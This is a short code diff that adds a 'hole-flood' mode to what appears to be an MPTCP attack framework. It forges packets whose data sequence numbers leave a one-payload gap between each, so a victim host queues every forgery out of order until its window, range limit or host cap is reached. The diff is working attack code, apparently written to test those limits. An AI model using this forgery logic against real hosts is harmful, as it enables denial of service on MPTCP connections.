@@ -60,5 +60,31 @@ static int dsn_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_t
   return 0;
 }
 
+/*
+ * A1, "hole-flood": the same forgeries, each mapped `dsn_lead` bytes past
+ * the victim's DATA_ACK plus twice the payload per earlier forgery, so
+ * that a hole of one payload separates each from the next: the victim
+ * holds every one out of order (one more range each) until the real data
+ * reaches it, or drops it (past its window: enforce_conn_window; one range
+ * too many: max_ofo_ranges; the host cap). In subflow sequence the
+ * forgeries follow one another (after the peer's data seen and the last
+ * forgery), so the subflow takes each.
+ */
+static int hole_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
+                      uint64_t now) {
+  int e = dsn_write(a, f, h, now);
+  if (e)
+    return e;
+  if (a->sent && mptcp_after32(a->hole_seq, h->seq))
+    h->seq = a->hole_seq; /* after the previous forgery */
+  h->dss.ssn = h->seq - f->isn;
+  h->dss.dsn = (uint32_t)(a->data_ack + (uint64_t)a->cfg.dsn_lead +
+                          2ull * a->sent * a->cfg.payload_len);
+  a->hole_seq = h->seq + a->cfg.payload_len;
+  return 0;
+}
+
 const struct attack_ops attack_dsn_inject = {
     .name = "dsn-inject", .init = dsn_init, .observe = dsn_observe, .write = dsn_write};
+const struct attack_ops attack_hole_flood = {
+    .name = "hole-flood", .init = dsn_init, .observe = dsn_observe, .write = hole_write};
